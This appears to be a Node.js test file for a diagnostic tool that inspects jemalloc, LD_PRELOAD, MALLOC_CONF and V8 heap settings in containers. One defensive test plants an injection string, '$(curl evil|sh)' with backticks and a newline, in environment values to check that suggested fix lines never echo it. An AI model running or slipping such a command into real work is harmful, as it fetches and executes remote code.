'use strict';
// What the rules make of facts that cannot be made on any machine, and foreign input.

const assert = require('node:assert/strict');
const fs = require('node:fs');
const path = require('node:path');
const { describe, test } = require('node:test');
const fc = require('fast-check');
const { didYouMean, parseConf, withPair } = require('../lib/doctor/conf.js');
const { exportsSymbol, parseElf } = require('../lib/doctor/facts/elf.js');
const { resolveIn } = require('../lib/doctor/facts/files.js');
const { readHost } = require('../lib/doctor/facts/host.js');
const { readPreload } = require('../lib/doctor/facts/preload.js');
const { splitArguments } = require('../lib/doctor/facts/process.js');
const { descendants } = require('../lib/doctor/facts/tree.js');
const { plain, toJson, toText } = require('../lib/doctor/report.js');
const { RULES, judge } = require('../lib/doctor/rules/index.js');
const { makeFolder, SHIPPED } = require('./support/faulty.js');

const RULES_FOLDER = path.join(__dirname, '..', 'lib', 'doctor', 'rules');

const CONTAINER = { cpus: 2, cpuQuota: null, hostCpus: 2, memoryLimit: null, thp: 'madvise' };
const HOST = {
  platform: 'linux',
  arch: 'x64',
  distribution: 'debian',
  etcMallocConf: null,
  container: CONTAINER,
  addon: { loaded: true, why: null },
  shipped: { library: SHIPPED, why: null },
};
const OPTIONS = { background_thread: true, narenas: 8, dirty_decay_ms: 10000, thp: 'default' };

const makeProcess = (own = {}) => ({
  pid: 7,
  ppid: 1,
  label: 'node server.js',
  program: '/usr/bin/node',
  ownArguments: [],
  node: true,
  environment: {},
  executable: { machine: 'x64', bits: 64, libc: 'glibc' },
  preload: [],
  mapped: [],
  allocator: { name: 'jemalloc', version: null, library: SHIPPED, evidence: ['proven'] },
  options: OPTIONS,
  optionsFrom: 'live',
  heapLimit: null,
  backgroundThreads: 0,
  thpEnabled: true,
  denied: [],
  ...own,
});

const makeFacts = ({ host = {}, processes = [makeProcess()], ...rest } = {}) => ({
  host: { ...HOST, ...host },
  processes,
  ancestors: [],
  given: null,
  complaints: [],
  ...rest,
});

const codesOf = (facts) => judge(facts).map(({ code }) => code);

/** A folder that stands for /, with these files. */
function makeRoot(t, files, links = {}) {
  const root = makeFolder(t);
  for (const [name, text] of Object.entries(files)) {
    fs.mkdirSync(path.join(root, path.dirname(name)), { recursive: true });
    fs.writeFileSync(path.join(root, name), text);
  }
  for (const [name, target] of Object.entries(links)) {
    fs.mkdirSync(path.join(root, path.dirname(name)), { recursive: true });
    fs.symlinkSync(target, path.join(root, name));
  }
  return root;
}

describe('rules', () => {
  test('a healthy process has no finding', () => {
    assert.deepEqual(judge(makeFacts()), []);
  });

  test('thp-always: by the mode that a root shows, and not where jemalloc was told', (t) => {
    const mode = 'sys/kernel/mm/transparent_hugepage/enabled';
    const hostOf = (text) => readHost({ root: makeRoot(t, { [mode]: text }) });
    const always = hostOf('[always] madvise never\n');
    assert.equal(always.container.thp, 'always');
    assert.deepEqual(codesOf(makeFacts({ host: always })), ['thp-always']);
    const told = makeProcess({ options: { ...OPTIONS, thp: 'never' } });
    assert.deepEqual(codesOf(makeFacts({ host: always, processes: [told] })), []);
    const never = makeProcess({ thpEnabled: false });
    assert.deepEqual(codesOf(makeFacts({ host: always, processes: [never] })), []);
    const madvise = hostOf('always [madvise] never\n');
    assert.deepEqual(codesOf(makeFacts({ host: madvise })), []);
  });

  test('etc-malloc-conf: the link of a root, less what MALLOC_CONF overrides', (t) => {
    const root = makeRoot(t, {}, { 'etc/malloc.conf': 'narenas:8,dirty_decay_ms:10000' });
    const host = readHost({ root });
    assert.equal(host.etcMallocConf, 'narenas:8,dirty_decay_ms:10000');
    assert.deepEqual(codesOf(makeFacts({ host })), ['etc-malloc-conf']);
    const environment = { MALLOC_CONF: 'dirty_decay_ms:10000,narenas:8' };
    const overriding = makeProcess({ environment });
    assert.deepEqual(codesOf(makeFacts({ host, processes: [overriding] })), []);
  });

  test('decay-disabled: the line removes the pair, or outdoes /etc/malloc.conf', () => {
    const options = { ...OPTIONS, dirty_decay_ms: -1 };
    const lineOf = (MALLOC_CONF, etcMallocConf = null) => {
      const processes = [makeProcess({ options, environment: { MALLOC_CONF } })];
      const findings = judge(makeFacts({ host: { etcMallocConf }, processes }));
      return findings.find(({ code }) => code === 'decay-disabled').fix[0].lines[0];
    };
    const text = 'dirty_decay_ms:-1';
    assert.equal(lineOf(`narenas:8,${text}`), 'ENV MALLOC_CONF=narenas:8');
    const outdone = 'ENV MALLOC_CONF=narenas:8,dirty_decay_ms:10000';
    assert.equal(lineOf('narenas:8', text), outdone);
    assert.equal(lineOf(`narenas:8,${text}`, text), outdone);
  });

  test('narenas-high: by the CPUs of the container, not of the machine', () => {
    const with256 = [makeProcess({ options: { ...OPTIONS, narenas: 256 } })];
    const quota = { ...CONTAINER, cpus: 1, cpuQuota: 0.5, hostCpus: 64 };
    const [finding] = judge(makeFacts({ host: { container: quota }, processes: with256 }));
    assert.equal(finding.code, 'narenas-high');
    assert.match(finding.summary, /256 arenas, and the container has 1 CPU:/);
    const large = { ...CONTAINER, cpus: 64, hostCpus: 64 };
    assert.deepEqual(codesOf(makeFacts({ host: { container: large }, processes: with256 })), []);
    const unknown = { ...CONTAINER, cpus: null };
    assert.deepEqual(codesOf(makeFacts({ host: { container: unknown }, processes: with256 })), []);
  });

  test('narenas-high: more than eight a CPU', () => {
    const container = { ...CONTAINER, cpus: 2 };
    const codes = (narenas) =>
      codesOf(
        makeFacts({
          host: { container },
          processes: [makeProcess({ options: { ...OPTIONS, narenas } })],
        }),
      );
    assert.deepEqual([codes(16), codes(17)], [[], ['narenas-high']]);
  });

  test('addon-missing: the reason of the loader', () => {
    const addon = { loaded: false, why: 'no native addon for linux-x64 is installed' };
    const [finding] = judge(makeFacts({ host: { addon } }));
    assert.deepEqual([finding.code, finding.severity], ['addon-missing', 'warning']);
    assert.match(finding.summary, /no native addon for linux-x64 is installed/);
    const elsewhere = { addon, platform: 'darwin' };
    assert.equal(judge(makeFacts({ host: elsewhere, processes: [] }))[0].severity, 'info');
  });

  test('preload-unreadable: a file that only root may read', () => {
    const entry = { entry: '/x.so', file: '/x.so', allocator: null, elf: null, malloc: null };
    const preload = [{ ...entry, problem: 'unreadable', detail: 'EACCES' }];
    const environment = { LD_PRELOAD: '/x.so' };
    const facts = makeFacts({ processes: [makeProcess({ preload, environment })] });
    assert.deepEqual(codesOf(facts), ['preload-unreadable']);
  });

  test('the same in many processes is one finding', () => {
    const off = { options: { ...OPTIONS, background_thread: false } };
    const processes = [11, 12, 13].map((pid) => makeProcess({ pid, ...off }));
    const findings = judge(makeFacts({ processes }));
    assert.equal(findings.length, 1);
    const pids = new Set(findings[0].evidence.map(({ pid }) => pid));
    assert.deepEqual([...pids], [11, 12, 13]);
  });

  test('findings on one MALLOC_CONF get one line, which mends them all', () => {
    const MALLOC_CONF = 'narena:1,a_b:2,dirty_decay_ms:-1,narenas:3,narenas:4, thp:never,retain:x';
    const options = { ...OPTIONS, background_thread: false, dirty_decay_ms: -1, narenas: 4 };
    const processes = [makeProcess({ environment: { MALLOC_CONF }, options })];
    const findings = judge(makeFacts({ processes }));
    assert.ok(findings.length >= 6, `${findings.map(({ code }) => code)}`);
    const lines = new Set(findings.flatMap(({ fix }) => fix.flatMap((each) => each.lines)));
    assert.deepEqual(
      [...lines],
      ['ENV MALLOC_CONF=narenas:4,thp:never,retain:x,background_thread:true'],
    );
  });

  test('no line to paste has a command in it that another process wrote', () => {
    const evil = '/x;$(curl evil|sh)\nRUN`evil`&';
    const environment = {
      LD_PRELOAD: evil,
      MALLOC_CONF: `narena:${evil},retain:true`,
      NODE_OPTIONS: `-r ${evil}`,
    };
    const named = { entry: evil, file: evil, elf: null, detail: null };
    const preload = ['missing', 'unreadable', 'not-a-library', 'spaces'].flatMap((problem) => [
      { ...named, problem, allocator: 'jemalloc', malloc: null },
      { ...named, entry: `./${evil}`, problem, allocator: null, malloc: null },
    ]);
    const mapped = [evil, `${evil}2`].map((file) => ({
      file,
      allocator: 'jemalloc',
      malloc: true,
    }));
    const own = { environment, preload, mapped, program: evil, label: evil, heapLimit: 2 ** 40 };
    const processes = [
      makeProcess({ ...own, options: { ...OPTIONS, background_thread: false } }),
      makeProcess({
        ...own,
        secure: true,
        allocator: { ...makeProcess().allocator, name: 'glibc' },
      }),
    ];
    const container = { ...CONTAINER, memoryLimit: 2 ** 29 };
    const findings = judge(makeFacts({ host: { container }, processes }));
    assert.ok(new Set(findings.map(({ code }) => code)).size >= 9);
    for (const { code, fix } of findings) {
      for (const line of fix.flatMap(({ lines }) => lines)) {
        assert.doesNotMatch(line, /evil|\n/, code);
      }
    }
  });

  test('errors come before warnings, and these before remarks', () => {
    const addon = { loaded: false, why: 'why' };
    const options = { ...OPTIONS, background_thread: false };
    const environment = { MALLOC_CONF: 'narena:1' };
    const processes = [makeProcess({ options, environment })];
    const severities = judge(makeFacts({ host: { addon }, processes })).map(
      ({ severity }) => severity,
    );
    assert.deepEqual(severities, ['error', 'warning', 'warning']);
  });

  test('none fails where next to nothing could be read', () => {
    const blind = makeProcess({
      environment: null,
      executable: null,
      mapped: null,
      allocator: null,
      options: null,
      optionsFrom: null,
      backgroundThreads: null,
      ownArguments: [],
      denied: ['/proc/7/environ'],
    });
    const container = { cpus: null, cpuQuota: null, hostCpus: null, memoryLimit: null, thp: null };
    assert.deepEqual(codesOf(makeFacts({ host: { container }, processes: [blind] })), []);
  });

  test('each is pure: it requires neither a module of Node.js nor what gathers facts', () => {
    const allowed =
      /^(\.\/shared|\.\.\/(conf|fixes|sentences|write-only)|\.\.\/\.\.\/(heap-advice|malloc-conf))\.js$/;
    const files = fs.readdirSync(RULES_FOLDER).filter((name) => name !== 'index.js');
    for (const file of files) {
      const source = fs.readFileSync(path.join(RULES_FOLDER, file), 'utf8');
      for (const [, name] of source.matchAll(/= require\('(.*?)'\)/g)) {
        assert.match(name, allowed, `${file} requires ${name}`);
      }
      assert.doesNotMatch(
        source,
        /Date|performance|process\.(env|arch|platform|cwd|hrtime)\b/,
        file,
      );
    }
    assert.equal(files.length, RULES.length + 1, 'every rule is in the list, and shared.js');
  });
});

test('a relative path is made absolute among what is of use', () => {
  const entries = ['./a.so', '/no/libjemalloc.so.2', '/b.so'];
  const [relative, missing, other] = entries.map((entry) => ({
    entry,
    file: entry.replace('./', '/srv/'),
    allocator: entry.includes('jemalloc') ? 'jemalloc' : null,
    elf: null,
    malloc: null,
    problem: null,
    detail: null,
  }));
  const preload = [relative, { ...missing, problem: 'missing' }, other];
  const environment = { LD_PRELOAD: entries.join(':') };
  const findings = judge(makeFacts({ processes: [makeProcess({ preload, environment })] }));
  const lines = new Map(findings.map(({ code, fix }) => [code, fix[0].lines[0]]));
  assert.equal(lines.get('preload-path'), 'ENV LD_PRELOAD=/srv/a.so:/b.so');
  assert.equal(lines.get('preload-missing'), 'ENV LD_PRELOAD=./a.so:/b.so');
});

describe('heap-headroom', () => {
  const MIB = 2 ** 20;
  const headroom = (limitMb, ...processes) => {
    const container = { ...CONTAINER, memoryLimit: limitMb * MIB };
    const facts = makeFacts({ host: { container }, processes: processes.map(makeProcess) });
    return judge(facts).map(({ severity, summary, fix }) => [severity, summary, fix[0].lines[0]]);
  };
  const fitting = { pid: 8, ppid: 7, label: 'node server.js', heapLimit: 131 * MIB };
  const large = { pid: 7, heapLimit: 259 * MIB };
  const glibc = { ...makeProcess().allocator, name: 'glibc' };

  test('npm and the like are not the service', () => {
    for (const own of [
      { label: 'node npm-cli.js' },
      { label: 'node npx' },
      { label: 'node yarn.js' },
      { label: 'node pnpm.cjs' },
      { label: 'node corepack.js' },
      { label: 'node', name: 'npm start' },
      { label: 'node anything.js', allocator: glibc },
    ]) {
      assert.deepEqual(headroom(256, { ...large, ...own }, fitting), [], own.label);
    }
    assert.equal(headroom(256, { ...large, label: 'node my-npm.js' }, fitting).length, 1);
    const [finding] = headroom(256, { ...large, label: 'node npm' }, { ...fitting, ...large });
    assert.equal(finding[0], 'error', 'but the service is');
  });

  test('the same script several times: by the sum', () => {
    const workers = [7, 8, 9].map((pid) => ({ pid, ppid: 7, heapLimit: 259 * MIB }));
    const [[severity, summary, line]] = headroom(1000, ...workers);
    assert.equal(severity, 'warning');
    assert.match(summary, /^in each of 3 processes V8 may grow its heap to 259 MB/);
    assert.equal(line, 'ENV NODE_OPTIONS=--max-old-space-size=170');
    const mended = workers.map((each) => ({ ...each, heapLimit: 173 * MIB }));
    assert.deepEqual(headroom(1000, ...mended), []);
    const different = workers.map((each) => ({ ...each, label: `node ${each.pid}.js` }));
    assert.deepEqual(headroom(1000, ...different), [], 'they may not run together');
    const [[worse]] = headroom(300, ...workers);
    assert.equal(worse, 'error', 'one of them would do');
  });

  test('beside the heap: measured, bounded by the peak of RSS, or assumed', () => {
    const heapLimit = 300 * MIB;
    const summaryOf = (own) => headroom(512, { heapLimit, ...own })[0]?.[1];
    assert.equal(summaryOf({}), undefined);
    assert.equal(summaryOf({ peakRss: 50 * MIB }), undefined, 'it may have just started');
    assert.match(summaryOf({ peakRss: 505 * MIB }), /the process needs about 205 MB beside it/);
    assert.match(summaryOf({ beside: 250 * MIB }), /the process needs about 250 MB beside it/);
    assert.equal(summaryOf({ beside: 60 * MIB, heapLimit: 400 * MIB }), undefined);
    assert.match(summaryOf({ heapLimit: 400 * MIB }), /96 MB are assumed beside it/);
  });

  const PROBE = '--require "/my \\"app\\"/heapgap/lib/doctor/probe.js"';
  const NODE_OPTIONS = [
    ['', 'ENV NODE_OPTIONS=--max-old-space-size=134'],
    ['-r ./a.js', 'ENV NODE_OPTIONS="-r ./a.js --max-old-space-size=134"'],
    ['--max_old_space_size=500 -r ./a.js', 'ENV NODE_OPTIONS="--max_old_space_size=134 -r ./a.js"'],
    [
      '--require "/srv/my app/a.js" --max-old-space-size=500',
      `ENV NODE_OPTIONS='--require "/srv/my app/a.js" --max-old-space-size=134'`,
    ],
    ['"--max-old-space-size=500"', `ENV NODE_OPTIONS='"--max-old-space-size=134"'`],
    ['--require "/it\'s/a.js"', '# in NODE_OPTIONS, set: --max-old-space-size=134'],
    ['-r $HOME/a.js', '# in NODE_OPTIONS, set: --max-old-space-size=134'],
    [`-r /${'a'.repeat(400)}`, '# in NODE_OPTIONS, set: --max-old-space-size=134'],
    [PROBE, 'ENV NODE_OPTIONS=--max-old-space-size=134'],
    [
      `-r ./a.js --require "/app/node_modules/heapgap/lib/preload.js" ${PROBE}`,
      'ENV NODE_OPTIONS="-r ./a.js --max-old-space-size=134"',
    ],
    [
      '--require "/app/other/lib/preload.js"',
      `ENV NODE_OPTIONS='--require "/app/other/lib/preload.js" --max-old-space-size=134'`,
    ],
    [`-r ./a.js ${PROBE} -r b`, 'ENV NODE_OPTIONS="-r ./a.js -r b --max-old-space-size=134"'],
  ];
  for (const [text, line] of NODE_OPTIONS) {
    test(`NODE_OPTIONS=${text.slice(0, 80)}`, () => {
      const environment = { NODE_OPTIONS: text };
      assert.equal(headroom(256, { ...large, environment })[0][2], line);
    });
  }
});

describe('beside a service on jemalloc', () => {
  const glibc = { name: 'glibc', version: null, library: null, evidence: [] };
  const options = { options: null, optionsFrom: null };
  const helper = { ...options, allocator: glibc, environment: { MALLOC_CONF: 'narenas:8' } };
  const service = makeProcess({ pid: 8, ppid: 7, environment: { MALLOC_CONF: 'narenas:8' } });

  test('what starts it has no finding', () => {
    const launcher = makeProcess({ ...helper, pid: 7, label: 'node start.js' });
    assert.deepEqual(codesOf(makeFacts({ processes: [launcher, service] })), []);
    assert.deepEqual(codesOf(makeFacts({ processes: [launcher] })), ['not-live']);
  });

  test('a helper that was taken off it is a remark', () => {
    const below = makeProcess({ ...helper, pid: 9, ppid: 8, label: 'node helper.js' });
    const [finding, ...more] = judge(makeFacts({ processes: [service, below] }));
    assert.deepEqual([finding.code, finding.severity, more], ['not-live', 'info', []]);
    const preload = [{ entry: SHIPPED, file: SHIPPED, allocator: 'jemalloc', problem: null }];
    const above = { ...service, preload };
    const [lost, ...rest] = judge(makeFacts({ processes: [above, below] }));
    assert.deepEqual([lost.code, lost.severity, rest], ['environment-lost', 'info', []]);
    const bare = { ...below, environment: {} };
    const severities = judge(makeFacts({ processes: [above, bare] })).map((each) => each.severity);
    assert.deepEqual(severities, ['error'], 'all was lost');
  });
});

describe('fixes', () => {
  const environment = { LD_PRELOAD: '/no/libjemalloc.so.2' };
  const preload = readPreload(environment);
  const allocator = { name: 'glibc', version: null, library: null, evidence: [] };
  const processes = [makeProcess({ environment, preload, allocator, options: null })];

  const CASES = [
    ['debian', 'x64', '/usr/lib/x86_64-linux-gnu/libjemalloc.so.2', /^RUN apt-get/],
    ['debian', 'arm64', '/usr/lib/aarch64-linux-gnu/libjemalloc.so.2', /^RUN apt-get/],
    ['alpine', 'x64', '/usr/lib/libjemalloc.so.2', /^RUN apk add/],
    ['alpine', 'arm64', '/usr/lib/libjemalloc.so.2', /^RUN apk add/],
    ['distroless', 'x64', '/usr/lib/x86_64-linux-gnu/libjemalloc.so.2', /^COPY --from=/],
    ['distroless', 'arm64', '/usr/lib/aarch64-linux-gnu/libjemalloc.so.2', /^COPY --from=/],
  ];
  for (const [distribution, arch, file, install] of CASES) {
    test(`${distribution}, ${arch}: its own lines apply, and all are listed`, () => {
      const [{ fix }] = judge(makeFacts({ host: { distribution, arch }, processes }));
      assert.equal(fix.length, 6);
      const applying = fix.filter(({ applies }) => applies);
      assert.equal(applying.length, 1);
      assert.equal(applying[0].distribution, distribution);
      assert.ok(applying[0].lines.includes(`ENV LD_PRELOAD=${file}`));
      assert.ok(applying[0].lines.some((line) => install.test(line)));
      assert.ok(applying[0].lines.includes("import 'heapgap/preload';"));
      assert.ok(applying[0].lines.some((line) => /^CMD \["node_modules\/.*"run", "--"/.test(line)));
    });
  }

  test('another distribution: what needs no package', () => {
    const [{ fix }] = judge(makeFacts({ host: { distribution: 'other' }, processes }));
    const applying = fix.filter(({ applies }) => applies);
    assert.deepEqual(applying[0].lines, [
      'ENV LD_PRELOAD=',
      '# as the first line of the service:',
      "import 'heapgap/preload';",
      '# or, in the Dockerfile:',
      'CMD ["node_modules/.bin/heapgap", "run", "--", "node", "server.js"]',
    ]);
  });

  const RELEASES = [
    ['debian', 'PRETTY_NAME="Debian GNU/Linux 12 (bookworm)"\nID=debian\n', ['bin/sh']],
    ['debian', 'ID=linuxmint\nID_LIKE="ubuntu debian"\n', ['bin/sh']],
    ['alpine', 'NAME="Alpine Linux"\nID=alpine\nVERSION_ID=3.20.0\n', ['bin/sh']],
    ['distroless', 'PRETTY_NAME="Distroless"\nID="debian"\n', []],
    ['other', 'ID=fedora\n', ['bin/sh']],
    ['other', '', []],
  ];
  for (const [distribution, release, files] of RELEASES) {
    test(`/etc/os-release ${JSON.stringify(release)}: ${distribution}`, (t) => {
      const others = Object.fromEntries(files.map((file) => [file, '']));
      const root = makeRoot(t, { 'etc/os-release': release, ...others });
      assert.equal(readHost({ root }).distribution, distribution);
    });
  }
});

describe('ELF files', () => {
  const real = fs.readFileSync(SHIPPED);
  const readerOf = (bytes) => (offset, length) =>
    Number.isSafeInteger(offset) && length > 0
      ? bytes.subarray(offset, offset + length)
      : Buffer.alloc(0);

  test('the shipped library, as readelf shows it', () => {
    const elf = parseElf(readerOf(real));
    assert.equal(elf.machine, process.arch);
    assert.deepEqual([elf.error, elf.type, elf.bits, elf.libc], [null, 'shared', 64, 'glibc']);
    assert.equal(elf.soname, 'libjemalloc.so.2');
    assert.ok(elf.needed.includes('libc.so.6'));
    assert.equal(exportsSymbol(readerOf(real), 'malloc'), true);
    assert.equal(exportsSymbol(readerOf(real), 'mallctl'), true);
    assert.equal(exportsSymbol(readerOf(real), 'pthread_create'), false, 'wanted, not defined');
  });

  test('node itself', () => {
    const elf = parseElf(readerOf(fs.readFileSync(process.execPath)));
    assert.match(elf.interpreter, /^\/lib/);
    assert.equal(elf.libc, 'glibc');
  });

  function assertBounded(bytes) {
    let asked = 0;
    const read = (offset, length) => {
      asked += Math.max(0, length || 0);
      return readerOf(bytes)(offset, length);
    };
    const elf = parseElf(read);
    assert.ok(elf.error === null || typeof elf.error === 'string');
    const answer = exportsSymbol(read, 'malloc');
    assert.ok([true, false, null].includes(answer));
    assert.ok(asked < 16 * 2 ** 20, `${asked} bytes asked for`);
  }

  test('any bytes', () => {
    const bytes = fc.uint8Array({ maxLength: 256 }).map((array) => Buffer.from(array));
    fc.assert(fc.property(bytes, assertBounded), { numRuns: 1000 });
  });

  test('a real header with any bytes changed, cut off anywhere', () => {
    const change = fc.tuple(fc.nat({ max: 1023 }), fc.nat({ max: 255 }));
    const changes = fc.array(change, { minLength: 1, maxLength: 12 });
    const cut = fc.oneof(fc.constant(real.length), fc.nat({ max: real.length }));
    fc.assert(
      fc.property(changes, cut, (list, length) => {
        const bytes = Buffer.from(real.subarray(0, length));
        for (const [at, value] of list) if (at < length) bytes[at] = value;
        assertBounded(bytes);
      }),
      { numRuns: 500 },
    );
  });

  test('the same in a file that LD_PRELOAD names', (t) => {
    const file = path.join(makeFolder(t), 'libjemalloc.so.2');
    const change = fc.tuple(fc.nat({ max: 127 }), fc.nat({ max: 255 }));
    fc.assert(
      fc.property(fc.array(change, { maxLength: 8 }), (list) => {
        const bytes = Buffer.from(real.subarray(0, 4096));
        for (const [at, value] of list) bytes[at] = value;
        fs.writeFileSync(file, bytes);
        const [entry] = readPreload({ LD_PRELOAD: file });
        assert.ok([null, 'not-a-library', 'unreadable'].includes(entry.problem));
      }),
      { numRuns: 200 },
    );
  });

  test('a pipe and a device are not opened', () => {
    for (const file of ['/dev/zero', '/dev/tty']) {
      const [{ problem }] = readPreload({ LD_PRELOAD: file });
      assert.ok(['not-a-library', 'missing'].includes(problem), file);
    }
  });
});

describe('paths inside a root', () => {
  test('an absolute link stays inside', (t) => {
    const root = makeRoot(
      t,
      { 'opt/lib/real.so': 'x' },
      { 'usr/lib/link.so': '/opt/lib/real.so', 'usr/lib/up.so': '../../../../opt/lib/real.so' },
    );
    for (const link of ['/usr/lib/link.so', '/usr/lib/up.so']) {
      assert.equal(resolveIn(root, link), path.join(root, 'opt/lib/real.so'));
    }
    assert.equal(resolveIn(root, '/usr/lib/none.so'), path.join(root, 'usr/lib/none.so'));
  });

  test('links that go round in circles have no path', (t) => {
    const root = makeRoot(t, {}, { a: 'b', b: 'a' });
    assert.equal(resolveIn(root, '/a'), null);
    const [{ problem }] = readPreload({ LD_PRELOAD: '/a' }, { root });
    assert.equal(problem, 'missing');
  });

  test('no path leaves the root', (t) => {
    const root = makeRoot(t, { 'a/file': '' }, { 'a/l': '/', 'a/m': '../../..' });
    const part = fc.constantFrom('..', '.', 'a', 'l', 'm', 'file', '');
    fc.assert(
      fc.property(fc.array(part, { maxLength: 12 }), (parts) => {
        const place = resolveIn(root, `/${parts.join('/')}`);
        assert.ok(place === null || place === root || place.startsWith(`${root}/`), place);
      }),
    );
  });
});

describe('MALLOC_CONF', () => {
  const pair = fc.tuple(
    fc.stringMatching(/^[a-zA-Z0-9_]{1,12}$/),
    fc.stringMatching(/^[^,\0]{0,8}$/),
  );

  test('every pair is found as it was written', () => {
    fc.assert(
      fc.property(fc.array(pair, { minLength: 1 }), (pairs) => {
        const text = pairs.map(([key, value]) => `${key}:${value}`).join(',');
        // A trailing comma is another matter.
        fc.pre(!text.endsWith(','));
        const parsed = parseConf(text);
        assert.deepEqual(
          parsed.pairs.map(({ key, value }) => [key, value]),
          pairs,
        );
        assert.equal(parsed.malformed, null);
      }),
    );
  });

  test('any text is read to an end', () => {
    fc.assert(
      fc.property(fc.string(), (text) => {
        const { pairs, malformed, rest } = parseConf(text);
        const read = pairs.map((each) => each.text).join(',');
        assert.ok(malformed !== null || read === text);
        assert.ok(text.startsWith(read) && text.endsWith(rest));
      }),
    );
  });

  test('what was meant', () => {
    const known = Object.keys(OPTIONS);
    assert.equal(didYouMean('narena', known), 'narenas');
    assert.equal(didYouMean('background_threads', known), 'background_thread');
    assert.equal(didYouMean('dirty_decay', known), 'dirty_decay_ms');
    assert.equal(didYouMean('utrace', known), null, 'an option, of other builds');
    assert.equal(didYouMean('x'.repeat(1000), known), null);
  });

  test('a pair is replaced, or added', () => {
    assert.equal(withPair('a:1,narenas:9,b:2', 'narenas', 4), 'a:1,b:2,narenas:4');
    assert.equal(withPair('', 'narenas', 4), 'narenas:4');
  });
});

describe('foreign text', () => {
  // biome-ignore lint/suspicious/noControlCharactersInRegex: they are what must not be there
  const CONTROL = /[\u0000-\u0009\u000b-\u001f\u007f-\u009f\u2028\u2029\u202a-\u202e\u2066-\u2069]/;
  const unicode = fc.string({
    unit: fc.oneof(
      fc.constantFrom('\u001b', '\u009b', '\u202e', '\n', '\0'),
      fc.string({ unit: 'binary', minLength: 1, maxLength: 1 }),
    ),
  });

  test('is one line of letters', () => {
    fc.assert(
      fc.property(unicode, (text) => {
        assert.doesNotMatch(plain(text), CONTROL);
        assert.doesNotMatch(plain(text), /\n/);
      }),
    );
  });

  test('is the same when JSON is parsed, and has no controls before', () => {
    fc.assert(
      fc.property(unicode, (text) => {
        const json = toJson({ text });
        assert.doesNotMatch(json, CONTROL);
        assert.equal(
          JSON.parse(json).text,
          text.toWellFormed?.() ?? JSON.parse(JSON.stringify(text)),
        );
      }),
    );
  });

  test('a whole report', () => {
    fc.assert(
      fc.property(unicode, unicode, (label, value) => {
        const environment = { MALLOC_CONF: `narenas:${value}`, LD_PRELOAD: value };
        const processes = [
          makeProcess({ label, environment, preload: readPreload({ LD_PRELOAD: value }) }),
        ];
        const findings = judge(makeFacts({ processes }));
        const report = { healthy: false, findings, processes, notes: [value] };
        assert.doesNotMatch(toText(report), CONTROL);
      }),
    );
  });
});

test('which words are of Node.js, and which of the script', () => {
  const split = (line) => splitArguments(line.split(' '));
  assert.deepEqual(split('node -r ./a --max-old-space-size=9 s.js --max-old-space-size=8'), {
    own: ['-r', './a', '--max-old-space-size=9'],
    script: 's.js',
  });
  assert.deepEqual(split('node -p secret'), { own: ['-p'], script: null });
  assert.deepEqual(split('node'), { own: [], script: null });
});

test('the tree of processes: circles and orphans do not matter', () => {
  const stat = fc.record({ pid: fc.nat(20), ppid: fc.nat(20), session: fc.nat(5) });
  fc.assert(
    fc.property(fc.uniqueArray(stat, { selector: ({ pid }) => pid }), (all) => {
      const found = descendants(all, 3, 2);
      assert.equal(new Set(found).size, found.length);
      for (const { pid, ppid, session } of found) {
        assert.ok(pid === 3 || session === 2 || found.some((each) => each.pid === ppid));
      }
    }),
  );
});

test('docs/doctor.md has every code, and no other', () => {
  const text = fs.readFileSync(path.join(__dirname, '..', 'docs', 'doctor.md'), 'utf8');
  const documented = Array.from(text.matchAll(/^### `(.*)`$/gm), ([, code]) => code);
  const codes = RULES.flatMap((rule) => rule.codes);
  assert.deepEqual([...documented].sort(), [...codes].sort());
});
